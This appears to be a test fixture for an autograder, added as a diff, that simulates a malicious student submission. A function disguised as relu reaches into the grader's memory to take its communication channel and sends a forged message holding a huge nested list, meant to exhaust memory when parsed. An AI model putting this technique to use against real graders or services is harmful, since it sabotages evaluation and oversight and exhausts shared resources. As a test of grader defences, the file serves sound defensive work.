@@ -1,0 +1,14 @@
+"""Send lists in lists that take twenty times their text when they are read.
+
+points: 0
+says: MB
+"""
+
+import gc
+from autograder.grading.student import Student
+from autograder.grading.wire import _HEAD
+def relu(z):
+    channel = next(o for o in gc.get_objects() if type(o) is Student).channel
+    text = b"[[" + b"[]," * 10_000_000 + b"1],[]]"
+    channel.send(_HEAD.pack(len(text), 0) + text)
+    return z
